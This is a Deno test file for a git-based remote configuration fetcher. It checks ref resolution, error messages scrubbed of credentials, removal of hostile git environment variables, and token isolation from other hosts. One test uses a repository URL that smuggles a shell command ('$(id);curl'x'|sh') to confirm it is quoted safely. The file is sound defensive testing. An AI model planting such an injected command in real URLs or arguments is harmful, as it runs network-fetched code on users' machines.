import { assert, assertEquals, assertRejects } from "@std/assert";
import { parseAddress } from "../../../../lib/config/remote/parse_address.ts";
import { Unfetched } from "../../../../lib/config/remote/fetched.ts";
import { gitFailure } from "../../../../lib/config/remote/git_failure.ts";
import { gitSource } from "../../../../lib/config/remote/git.ts";
import { scratchOf } from "../../../../lib/config/remote/scratch.ts";
import { type Elsewhere, type RemoteWorld, remoteWorld } from "./elsewhere.ts";

const REPOSITORY = "https://github.com/acme/cfg.git";
const ONE = "1".repeat(40);
const TWO = "2".repeat(40);

function there(): Pick<Elsewhere, "repositories"> {
  const commits = {
    [ONE]: {
      "a.yaml": "auth: {}",
      "d/b.yaml": "b",
      "bad.yaml": "\ufffd",
      "big.yaml": "x".repeat(2 ** 21),
    },
    [TWO]: { "a.yaml": "two" },
  };
  const refs = {
    HEAD: TWO,
    "refs/heads/main": TWO,
    "refs/heads/v1": TWO,
    "refs/tags/v1": "3".repeat(40),
    "refs/tags/v1^{}": ONE,
    "refs/heads/x/main": ONE,
  };
  return { repositories: { [REPOSITORY]: { refs, commits } } };
}

async function open(world: RemoteWorld, query = "", path = "a.yaml") {
  const address = await parseAddress(`git::${REPOSITORY}//${path}${query}`);
  if (address.kind !== "git") throw new Error("it is a file");
  return gitSource(world.system, address, scratchOf(world.system));
}

Deno.test("a tag's commit, a branch's, the repository's own choice, and one by its id", async () => {
  const rows = [["?ref=v1", ONE], ["?ref=main", TWO], ["", TWO], ["?ref=refs/heads/v1", TWO]];
  for (const [query, wanted] of rows) {
    assertEquals(await (await open(remoteWorld({}, there()), query)).version(), wanted, query);
  }
  const world = remoteWorld({}, there());
  const source = await open(world, `?ref=${ONE}`);
  assertEquals([source.fixed, await source.version(), world.reached], [true, ONE, []]);
  assertEquals([...(await source.read(ONE, "d")).entries()], [["d/b.yaml", "b"]]);
});

Deno.test("what is not there, or no text of a sensible size, is told", async () => {
  const rows: [string, string, string][] = [
    ["?ref=none", "a.yaml", 'no branch and no tag "none"'],
    ["?ref=v1", "none.yaml", 'no file "none.yaml"'],
    ["?ref=v1", "bad.yaml", "not UTF-8"],
    ["?ref=v1", "big.yaml", "over 1 MiB"],
  ];
  for (const [query, path, said] of rows) {
    const source = await open(remoteWorld({}, there()), query, path);
    const found = async () => await source.read(await source.version(), path);
    assertEquals((await assertRejects(found, Unfetched, said)).final, true);
  }
});

Deno.test("what git complains of is told in our words, and nothing that could be a password", async () => {
  const rows: [string, string, boolean][] = [
    ["fatal: unable to access 'x': Could not resolve host: x", "can't be reached", false],
    ["fatal: unable to access 'x': The requested URL returned error: 503", "reached", false],
    ["fatal: Authentication failed for 'x'", "wants to know who asks", true],
    ["git@x: Permission denied (publickey).", "wants to know who asks", true],
    ["remote: Repository not found.", "no such repository", true],
    ["Host key verification failed.", "ssh does not know the host", true],
    ["fatal: transport 'ext' not allowed", "not allowed", true],
    ["error: The requested URL returned error: 301", "has moved", true],
    ["fatal: SSL certificate problem", "certificate", false],
    ["fatal: odd 'https://u:canary@x.example/'", "git says: odd 'https://x.example/'", false],
    ["canary", "git ended with 128", false],
  ];
  for (const [complaint, said, final] of rows) {
    const source = await open(remoteWorld({}, { ...there(), complaint }));
    const error = await assertRejects(() => source.version(), Unfetched, said);
    assertEquals([error.final, error.message.includes("canary")], [final, false], complaint);
  }
});

Deno.test("attack: something of the directory, the environment or the address steers git", async () => {
  const env = {
    GIT_DIR: "/work/.git",
    GIT_CONFIG_COUNT: "1",
    GIT_EXTERNAL_DIFF: "/work/x",
    GIT_ASKPASS: "/work/x",
    GITHUB_TOKEN: "ghp_canary",
    ATMOS_KEYRING_PASSWORD: "hidden",
    GIT_SSH_COMMAND: "ssh -F mine",
  };
  const world = remoteWorld({}, there(), { env });
  const source = await open(world, "?ref=v1");
  await source.read(await source.version(), "a.yaml");
  for (const { args, env: given } of world.system.ran) {
    assertEquals(args.some((each) => each.includes("canary")), false);
    assert(given.GIT_DIR!.startsWith("/home/u/.cache/atmos-auth/imports/fetching-"));
    const { GIT_ALLOW_PROTOCOL, GIT_TERMINAL_PROMPT, GIT_ASKPASS, GIT_CONFIG_COUNT } = given;
    assertEquals(
      [GIT_ALLOW_PROTOCOL, GIT_TERMINAL_PROMPT, GIT_ASKPASS, GIT_CONFIG_COUNT],
      ["https:ssh", "0", "", undefined],
    );
    assertEquals([given.GITHUB_TOKEN, given.ATMOS_KEYRING_PASSWORD], [undefined, undefined]);
    assert(args.includes("core.hooksPath=/nonexistent"));
    assert(args.includes("http.followRedirects=false"));
  }
  const last = world.system.ran.at(-1)!.env;
  assertEquals(last.GIT_SSH_COMMAND, "ssh -F mine -oBatchMode=yes -oConnectTimeout=6");
  assertEquals(last.ATMOS_AUTH_IMPORT_TOKEN, "ghp_canary");
  await source.close();
  const left = [...world.system.files.directories].filter((path) => path.includes("fetching"));
  assertEquals(left, []);
});

Deno.test("attack: another host's git gets the token, or GitHub's program", async () => {
  const repositories = { "https://git.example/r.git": there().repositories[REPOSITORY]! };
  const world = remoteWorld({}, { repositories }, { env: { GITHUB_TOKEN: "ghp_canary" } });
  const address = await parseAddress("git::https://git.example/r.git//a.yaml");
  if (address.kind !== "git") throw new Error("it is a file");
  await gitSource(world.system, address, scratchOf(world.system)).version();
  assertEquals(JSON.stringify(world.system.ran).includes("canary"), false);
  assertEquals(JSON.stringify(world.system.ran).includes("credential."), true);
  assertEquals(JSON.stringify(world.system.ran).includes(".helper="), false);
});

Deno.test("gh signs git in at GitHub where the environment has no token", async () => {
  const world = remoteWorld({}, there(), {
    programs: { "/usr/bin/gh": () => 0 },
  });
  await (await open(world)).version();
  const helper = "credential.https://github.com.helper=!'/usr/bin/gh' auth git-credential";
  assert(world.system.ran.at(-1)!.args.includes(helper));
});

Deno.test("without git it is said what fetches", async () => {
  const world = remoteWorld({}, there(), { installed: {} });
  await assertRejects(
    async () => await (await open(world)).version(),
    Unfetched,
    "git is not installed",
  );
});

Deno.test("what a process that was killed left is removed later, and nothing else", async () => {
  const place = "/home/u/.cache/atmos-auth/imports";
  const world = remoteWorld(
    { [`${place}/fetching-old/x`]: "", [`${place}/kept.json`]: "" },
    there(),
  );
  world.system.jump(3_700_000);
  const source = await open(world);
  await source.version();
  await source.close();
  assertEquals(Object.keys(world.system.files.texts()).filter((path) => path.startsWith(place)), [
    `${place}/kept.json`,
  ]);
});

Deno.test("attack: the hint is a line whose address is more than one word to a shell", () => {
  const url = "https://h.example/o/$(id);curl'x'|sh/r.git";
  const { hint } = gitFailure({ status: 128, stdout: "", stderr: "" }, url, undefined);
  assertEquals(
    hint,
    `git ls-remote 'https://h.example/o/$(id);curl'\\''x'\\''|sh/r.git'   (it must work without a question)`,
  );
});

Deno.test("a bug is not taken for a cache that can't be written to", async () => {
  const world = remoteWorld({}, there());
  world.system.files.makeDirectory = () => Promise.reject(new TypeError("odd"));
  await assertRejects(async () => await (await open(world)).version(), TypeError, "odd");
});
